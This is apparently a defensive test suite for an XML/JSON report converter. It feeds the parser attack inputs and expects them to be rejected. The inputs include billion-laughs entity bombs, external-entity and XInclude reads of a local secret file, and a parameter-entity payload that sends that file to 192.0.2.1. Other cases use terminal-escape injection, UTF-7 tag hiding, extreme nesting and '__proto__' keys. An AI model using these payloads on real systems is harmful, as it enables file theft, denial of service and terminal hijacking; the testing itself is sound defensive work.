"""XML and JSON: what parsers are attacked with."""
from makers import *
from model import Case

ROOT = '<report xmlns="urn:gongkai:report:1" version="1.0" edition="2021">'


def xml(name, what, content, says, status=3, **more):
    return Case(name, what, "convert in.xml", status, says, {"in.xml": content}, **more)


def json(name, what, content, says, status=3, **more):
    return Case(name, what, "convert in.json", status, says, {"in.json": content}, **more)


def entities(levels, breadth=10):
    lines = ['<!ENTITY e0 "lol">'] + [f'<!ENTITY e{level} "{f"&e{level - 1};" * breadth}">' for level in range(1, levels)]
    return f'<?xml version="1.0"?><!DOCTYPE report [{"".join(lines)}]>{ROOT}&e{levels - 1};</report>'


CASES = [
    # ------------------------------------------------------------------------------------------------ XML
    xml("xml-brackets", "]]> in text, 70 kB behind it", lambda: ROOT + "a]]>" + "x" * 70_000 + "</report>", "[xml.malformed]"),
    xml("xml-brackets-many", "70,000 times ]]>", lambda: ROOT + "]]>" * 70_000 + "</report>", "[xml.malformed]"),
    xml("xml-billion-laughs", "ten levels of entities, each ten of the one below", entities(10), "[xml.document-type]"),
    xml("xml-quadratic", "an entity of 100 kB, used 10,000 times", lambda: f'<!DOCTYPE r [<!ENTITY a "{"a" * 100_000}">]>{ROOT}{"&a;" * 10_000}</report>', "[xml.document-type]"),
    xml("xml-external-entity", "an entity that is a local file", lambda path, run: f'<!DOCTYPE report [<!ENTITY x SYSTEM "file://{run.outside}/secret.txt">]>{ROOT}&x;</report>', "[xml.document-type]"),
    xml("xml-external-dtd", "a document type from the network", f'<!DOCTYPE report SYSTEM "http://192.0.2.1/report.dtd">{ROOT}</report>', "[xml.document-type]"),
    xml("xml-parameter-entity", "parameter entities that send a local file away", lambda path, run: f'<!DOCTYPE report [<!ENTITY % f SYSTEM "file://{run.outside}/secret.txt"><!ENTITY % d SYSTEM "http://192.0.2.1/d"> %d;]>{ROOT}</report>', "[xml.document-type]"),
    xml("xml-xinclude", "a part included from a local file", lambda path, run: f'{ROOT}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{run.outside}/secret.txt" parse="text"/></report>', "[xml."),
    xml("xml-schema-location", "a schema at an address", f'<report xmlns="urn:gongkai:report:1" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:gongkai:report:1 http://192.0.2.1/x.xsd" version="1.0" edition="2021"></report>', "[xml."),
    xml("xml-stylesheet", "a style sheet at an address, and nothing else wrong", lambda: canonical_xml().replace("?>", '?><?xml-stylesheet type="text/xsl" href="http://192.0.2.1/x.xsl"?>', 1), (), status=(0, 1)),
    xml("xml-deep", "100,000 elements in each other", lambda: ROOT + "<a>" * 100_000 + "</a>" * 100_000 + "</report>", "[xml."),
    xml("xml-attributes", "1,000,000 attributes on an element", lambda: '<report xmlns="urn:gongkai:report:1" ' + " ".join(f'a{number}=""' for number in range(1_000_000)) + "/>", "[xml."),
    xml("xml-attribute-twice", "an attribute twice", '<report xmlns="urn:gongkai:report:1" version="1.0" version="2.0" edition="2021"/>', "[xml.malformed]"),
    xml("xml-namespaces", "100,000 namespaces", lambda: '<report xmlns="urn:gongkai:report:1" ' + " ".join(f'xmlns:n{number}="u{number}"' for number in range(100_000)) + "/>", "[xml."),
    xml("xml-long-name", "the name of an element of 5 MB", lambda: ROOT + "<" + "n" * 5_000_000 + "/></report>", "[xml."),
    xml("xml-long-attribute", "the value of an attribute of 20 MB", lambda: '<report xmlns="urn:gongkai:report:1" version="' + "9" * 20_000_000 + '"/>', "[xml."),
    xml("xml-names-escape", "an unknown element whose attribute would clear the screen", lambda: canonical_xml().replace("<statistics", "<x a='\u202eb\u009b2J'/><statistics", 1), (), status=(0, 1, 3)),
    xml("xml-references", "a million references to characters", lambda: ROOT + "&#x41;" * 1_000_000 + "</report>", "[xml."),
    xml("xml-cdata", "10,000 sections of CDATA and none of a report", lambda: ROOT + "<![CDATA[<a>&x;]]>" * 10_000 + "</report>", "[xml."),
    xml("xml-comments", "a comment of 20 MB", lambda: ROOT + "<!--" + "x" * 20_000_000 + "--></report>", "[xml."),
    xml("xml-processing", "a million processing instructions", lambda: ROOT + "<?x y?>" * 1_000_000 + "</report>", "[xml."),
    xml("xml-nul", "NUL within text", ROOT + "a\0b</report>", "[xml.malformed]"),
    xml("xml-control", "a reference to the escape character", ROOT + "&#27;[2J</report>", "[xml.malformed]"),
    xml("xml-surrogate", "a reference to half a surrogate pair", ROOT + "&#xD800;</report>", "[xml.malformed]"),
    xml("xml-utf16", "UTF-16 with a mark, of a whole report", lambda: b"\xff\xfe" + canonical_xml().replace("UTF-8", "UTF-16", 1).encode("utf-16-le"), (), status=(0, 1, 3)),
    xml("xml-utf16-half", "UTF-16 that ends within a character", lambda: b"\xff\xfe" + (ROOT + "</report>").encode("utf-16-le")[:-1], "[xml.damaged]"),
    xml("xml-utf7", "UTF-7, which hides its tags", b'<?xml version="1.0" encoding="UTF-7"?>+ADw-report xmlns+AD0AIg-urn:gongkai:report:1+ACI-+AD4-+ADw-/report+AD4-', "[xml.encoding]"),
    xml("xml-lying-encoding", "said to be UTF-8, and GBK", lambda: (f'<?xml version="1.0" encoding="UTF-8"?>{ROOT}').encode() + "临溪县".encode("gbk") + b"</report>", "[xml."),
    xml("xml-unknown-encoding", "an encoding whose name steers the terminal", b'<?xml version="1.0" encoding="x\x1b[2J"?><report xmlns="urn:gongkai:report:1"/>', "[xml.encoding]"),
    xml("xml-truncated", "cut off in the middle of a report", lambda: canonical_xml()[:30_000], "[xml.malformed]"),
    xml("xml-steering", "a body whose name steers the terminal, by references", lambda: canonical_xml().replace("临溪县教育局", "临溪县\\{1b}[2J\\{7}&#x202e;局&#x9b;31m"), (), status=(0, 1)),
    Case("xml-steering-inspected", "the same on a terminal, inspected", "inspect in.xml", (0, 1), "\\u{1B}[2J", {"in.xml": lambda: canonical_xml().replace("临溪县教育局", "临溪县\\{1b}[2J\\{7}&#x202e;局&#x9b;31m")}, tty=True),
    Case("xml-as-eep", "an envelope whose root is all there is", "verify in.xml", 1, "[eep.", {"in.xml": '<电子文件封装包 xmlns="http://www.saac.gov.cn/standards/ERM/encapsulation">' + "]]>" * 30_000}),
    # ------------------------------------------------------------------------------------------------ JSON
    json("json-deep", "a million arrays in each other", lambda: '{"gongkai":"1.0","x":' + "[" * 1_000_000 + "]" * 1_000_000 + "}", "[json.too-deep]"),
    json("json-deep-objects", "500,000 objects in each other", lambda: '{"gongkai":"1.0","x":' + '{"a":' * 500_000 + "1" + "}" * 500_000 + "}", "[json.too-deep]"),
    json("json-number-long", "a figure of a million digits", lambda: canonical().replace('"made": 0', '"made": ' + "9" * 1_000_000, 1), "[json."),
    json("json-number-exponent", "a figure of 1e999999999", lambda: canonical().replace('"made": 0', '"made": 1e999999999', 1), "[json."),
    json("json-number-tiny", "a figure of 1e-999999999", lambda: canonical().replace('"made": 0', '"made": 1e-999999999', 1), "[json."),
    json("json-not-number", "a figure of NaN", lambda: canonical().replace('"made": 0', '"made": NaN', 1), "[json."),
    json("json-keys-twice", "a figure given twice, differently", lambda: canonical().replace('"made": 0', '"made": 0, "made": 7', 1), "[json."),
    json("json-keys-many", "a million unknown members", lambda: '{"gongkai":"1.0","edition":"2021",' + ",".join(f'"k{number}":0' for number in range(1_000_000)) + "}", "[json."),
    json("json-keys-colliding", "100,000 times the same name", lambda: '{"gongkai":"1.0","edition":"2021",' + ",".join(['"same":0'] * 100_000) + "}", "[json."),
    json("json-values-many", "20 million values", repeated(b"0,", 20_000_000, b'{"gongkai":"1.0","x":[', b"0]}"), "[json."),
    json("json-surrogate", "half a surrogate pair in a name", lambda: canonical().replace("临溪县", "\\ud800", 1), "[json.surrogate]"),
    json("json-escape", "an escape that is none", lambda: canonical().replace("临溪县", "\\x1b", 1), "[json.escape]"),
    json("json-invalid-utf8", "overlong and broken UTF-8 in a name", lambda: canonical().encode().replace("临".encode(), b"\xc0\x80\xff\xed\xa0\x80", 1), "[json."),
    json("json-mark", "a byte order mark before it", lambda: b"\xef\xbb\xbf" + canonical().encode(), (), status=(0, 1, 3)),
    json("json-utf16", "UTF-16 of a whole report", lambda: b"\xff\xfe" + canonical().encode("utf-16-le"), (), status=(0, 1, 3)),
    json("json-string-huge", "a title of 60 MB", repeated("题".encode(), 20_000_000, b'{"gongkai":"1.0","edition":"2021","form":"1.0","identity":{"title":"', b'"}}'), (), status=(0, 1, 3)),
    json("json-nul", "NUL within a name", lambda: canonical().encode().replace("临".encode(), b"\0", 1), "[json."),
    json("json-truncated", "cut off in the middle", lambda: canonical()[:9_000], "[json."),
    json("json-trailing", "a second value behind the report", lambda: canonical() + '{"a":1}', "[json."),
    json("json-steering", "a body whose name steers the terminal, by escapes", lambda: canonical("临溪县" + STEERING), (), status=(0, 1)),
    Case("json-steering-terminal", "the same, written to a terminal as JSON", "convert in.json --to json", (0, 1), "\\u001b[2J", {"in.json": lambda: canonical("临溪县" + STEERING)}, tty=True),
    Case("json-steering-xml", "the same, written to a terminal as XML", "convert in.json --to xml", (0, 1), "[2J", {"in.json": lambda: canonical("临溪县" + STEERING)}, tty=True),
    Case("json-steering-names", "unknown members whose names steer the terminal", "inspect in.json", (0, 1, 3), "in.json", {"in.json": lambda: canonical().replace('"identity"', '"\\u001b[2J\\u202e": {"\\u009b": 1}, "identity"', 1)}, tty=True),
    Case("json-prototype", "members called __proto__ and constructor", "convert in.json", (0, 1, 3), (), {"in.json": lambda: canonical().replace('"identity"', '"__proto__": {"x": 1}, "constructor": {}, "identity"', 1)}),
    Case("json-lines", "10,000 reports' beginnings, one a line", "convert in.json", 3, "[json.", {"in.json": '{"gongkai":"1.0"}\n' * 10_000}),
    Case("json-ids-steering", "indicator ids that steer the terminal", "check in.json", (0, 1, 3), (), {"in.json": lambda: canonical().replace('"regulations"', '"regul\\u001b[2Jations"', 1)}, tty=True),
    Case("json-places", "places beyond every number", "check in.json", (0, 1, 3), (), {"in.json": lambda: canonical().replace("l3 b20-63", "l99999999999999999999 b9-1", 1)}),
    Case("json-edition-steering", "an edition whose name steers the terminal", "check in.json", 3, "\\u{1B}[2J", {"in.json": '{"gongkai":"1.0","edition":"\\u001b[2J\\u202e","form":"1.0"}'}, tty=True),
]
